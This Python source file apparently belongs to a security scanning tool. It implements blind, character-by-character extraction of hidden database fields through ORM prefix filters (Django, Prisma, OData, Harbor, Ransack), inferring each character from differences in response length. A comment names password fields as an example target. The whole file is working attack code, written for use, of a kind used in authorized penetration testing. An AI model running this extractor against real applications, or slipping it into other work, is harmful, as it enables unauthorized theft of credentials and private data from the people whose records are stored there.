"""Character-by-character field extraction through prefix-match ORM filters.

The loop is dialect-agnostic: a dialect only knows how to turn
(url, field, param, prefix) into a request. A response whose length
differs from the sentinel (no-match) baseline means the prefix matched.
"""

import json
import threading
import time
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from enum import Enum
from typing import Callable, Dict, Optional

from logicscan.core.models import ProbeRequest, ProbeResult

DEFAULT_CHARSET = "abcdefghijklmnopqrstuvwxyz0123456789"
DEFAULT_SENTINEL = "ZZZZNOTEXIST999"

Sender = Callable[[ProbeRequest], Optional[ProbeResult]]


# ── dialects ───────────────────────────────────────────────────

def _django(url: str, field: str, param: Optional[str], value: str) -> ProbeRequest:
    # optional relation prefix: author__password__startswith
    path = f"{param}__{field}" if param else field
    return ProbeRequest("GET", url).with_param(f"{path}__startswith", value)


def _prisma(url: str, field: str, param: Optional[str], value: str) -> ProbeRequest:
    body = json.dumps({field: {"startsWith": value}})
    return ProbeRequest("POST", url, {"Content-Type": "application/json"}, body)


def _odata(url: str, field: str, param: Optional[str], value: str) -> ProbeRequest:
    escaped = value.replace("'", "''")
    return ProbeRequest("GET", url).with_param(param, f"startswith({field},'{escaped}')")


def _harbor(url: str, field: str, param: Optional[str], value: str) -> ProbeRequest:
    return ProbeRequest("GET", url).with_param(param, f"{field}=~^{value}")


def _ransack(url: str, field: str, param: Optional[str], value: str) -> ProbeRequest:
    return ProbeRequest("GET", url).with_param(f"{param}[{field}_start]", value)


@dataclass(frozen=True)
class Dialect:
    name: str
    build: Callable[[str, str, Optional[str], str], ProbeRequest]
    requires_param: bool = True
    default_param: Optional[str] = None


DIALECTS: Dict[str, Dialect] = {
    "django": Dialect("Django", _django, requires_param=False),
    "prisma": Dialect("Prisma", _prisma, requires_param=False),
    "odata": Dialect("OData", _odata, default_param="$filter"),
    "harbor": Dialect("Harbor", _harbor, default_param="q"),
    "ransack": Dialect("Ransack", _ransack, default_param="q"),
}
DIALECTS["auto"] = DIALECTS["django"]


def get_dialect(name: str) -> Dialect:
    try:
        return DIALECTS[name.lower()]
    except KeyError:
        raise ValueError(f"unknown dialect: {name!r} (choose from {', '.join(DIALECTS)})") from None


# ── state / results ────────────────────────────────────────────

class ExtractionState(Enum):
    IDLE = "idle"
    RUNNING = "running"
    CANCELLED = "cancelled"
    DONE = "done"


@dataclass
class ProgressEvent:
    position: int
    char: str
    prefix: str
    probes: int


@dataclass
class ExtractionResult:
    value: str
    probes: int
    elapsed: float
    cancelled: bool = False
    error: Optional[str] = None

    @property
    def display(self) -> str:
        return self.value or "(empty)"


# ── loop ───────────────────────────────────────────────────────

class Extractor:

    def __init__(self, send: Sender, dialect, url: str, field: str,
                 charset: str = DEFAULT_CHARSET, param: Optional[str] = None,
                 sentinel: str = DEFAULT_SENTINEL, max_length: int = 128,
                 headers: Optional[Dict[str, str]] = None, logger=None):
        self.dialect = get_dialect(dialect) if isinstance(dialect, str) else dialect
        if not url:
            raise ValueError("target URL is required")
        if not field or not field.strip():
            raise ValueError("target field is required")
        if not charset:
            raise ValueError("charset must not be empty")
        if self.dialect.requires_param and not param:
            raise ValueError(f"parameter name is required for {self.dialect.name}")
        if not sentinel:
            raise ValueError("sentinel must not be empty")

        self.send = send
        self.url = url
        self.field = field.strip()
        self.charset = "".join(dict.fromkeys(charset))
        self.param = param
        self.sentinel = sentinel
        self.max_length = max_length
        self.headers = dict(headers or {})
        self.logger = logger
        self.state = ExtractionState.IDLE
        self._cancel = threading.Event()

    def cancel(self):
        """Request a stop. Takes effect before the next trial."""
        self._cancel.set()
        if self.state == ExtractionState.RUNNING:
            self.state = ExtractionState.CANCELLED

    def start(self, executor: Optional[ThreadPoolExecutor] = None,
              on_progress: Optional[Callable[[ProgressEvent], None]] = None) -> Future:
        """Run on a background worker; the Future resolves to an ExtractionResult."""
        if self.state != ExtractionState.IDLE:
            raise RuntimeError(f"extractor already {self.state.value}")
        if executor is not None:
            return executor.submit(self.run, on_progress)
        own = ThreadPoolExecutor(max_workers=1, thread_name_prefix="extractor")
        fut = own.submit(self.run, on_progress)
        own.shutdown(wait=False)
        return fut

    def run(self, on_progress: Optional[Callable[[ProgressEvent], None]] = None) -> ExtractionResult:
        self.state = ExtractionState.RUNNING
        started = time.monotonic()
        prefix = ""
        probes = 0

        if self.logger:
            self.logger.info(f"Extracting '{self.field}' via {self.dialect.name} at {self.url}")

        baseline = self._length(self.sentinel)
        probes += 1
        if baseline < 0:
            return self._finish(prefix, probes, started, error="baseline probe failed")
        if self.logger:
            self.logger.debug(f"No-match baseline length: {baseline}")

        while len(prefix) < self.max_length:
            hit = None
            for ch in self.charset:
                if self._cancel.is_set():
                    return self._finish(prefix, probes, started)
                length = self._length(prefix + ch)
                probes += 1
                if length >= 0 and length != baseline:
                    hit = ch
                    break
            if hit is None:
                break
            prefix += hit
            if self.logger:
                self.logger.ok(f"[{len(prefix)}] {self.field} = {prefix}")
            if on_progress:
                on_progress(ProgressEvent(len(prefix), hit, prefix, probes))

        return self._finish(prefix, probes, started)

    # ── internals ───────────────────────────────────────────────

    def _length(self, value: str) -> int:
        """Body length of one probe, -1 when the send failed."""
        request = self.dialect.build(self.url, self.field, self.param, value)
        request.headers = {**self.headers, **request.headers}
        try:
            result = self.send(request)
        except Exception as e:
            if self.logger:
                self.logger.warn(f"Probe failed for {value!r}: {e}")
            return -1
        if result is None:
            return -1
        return len(result.body)

    def _finish(self, prefix: str, probes: int, started: float,
                error: Optional[str] = None) -> ExtractionResult:
        cancelled = self._cancel.is_set()
        self.state = ExtractionState.DONE
        result = ExtractionResult(prefix, probes, time.monotonic() - started, cancelled, error)
        if self.logger:
            how = "cancelled" if cancelled else ("failed: " + error if error else "finished")
            self.logger.info(f"Extraction {how}: {result.display} "
                             f"({probes} probes, {result.elapsed:.2f}s)")
        return result
